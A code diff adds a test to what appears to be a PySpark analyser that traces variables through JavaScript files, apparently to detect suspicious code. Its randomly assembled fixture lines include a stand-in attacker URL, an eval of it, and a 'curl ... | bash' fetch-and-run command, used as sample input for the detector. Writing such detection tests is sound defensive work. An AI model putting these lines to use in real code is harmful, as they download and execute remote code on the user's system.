@@ -63,6 +63,22 @@ def test_chains_and_evidence(made):
     assert got == {(a, b): ("base64", 1, "s", ";".join(sorted(x for c, d, x in plain if (c, d) == (a, b)))) for a, b, _, pre in rows if pre}
 
 
+def test_texts_are_decoded_and_searched_once(spark, made):
+    _, _, _, df, s, r = made
+    plan = flow.flow_signals(df, s, r)._jdf.queryExecution().optimizedPlan().toString()
+    # the search of names in windows stands in one place of the plan, not in the generator's filter too
+    assert plan.count("decoded variable propagated near ") <= 2 and sum("exists(" in x for x in plan.splitlines()) == 1
+    lines = ['const a = "https://evil.example/run.sh"', "const b = a", "eval(b)", "const t = `curl ${a} | bash -c run`", "x = 1", "let c = b"]
+    rows = [("s", f"f{i}.js", "\n".join(RND.choice(lines) for _ in range(RND.randint(0, 6)))) for i in range(80)] + [("s", "none.js", None)]
+    files = spark.createDataFrame(rows, "skill_id string, path string, content string")
+    once = flow.with_variables(files)
+    for build in (lambda f: flow.with_analysis(f).drop("_variables"), flow.decoded_variables):
+        got, want = ([tuple(x) for x in build(f).collect()] for f in (once, files))
+        assert sorted(got, key=repr) == sorted(want, key=repr) and len(got) > 30
+    edges = flow.assignment_edges(files)._jdf.queryExecution().optimizedPlan().toString()
+    assert "Union" not in edges
+
+
 def test_edges_equal_plain_assignments(spark):
     def names(expr):
         return set(re.findall(r"[A-Za-z_]\w*", expr, re.ASCII))
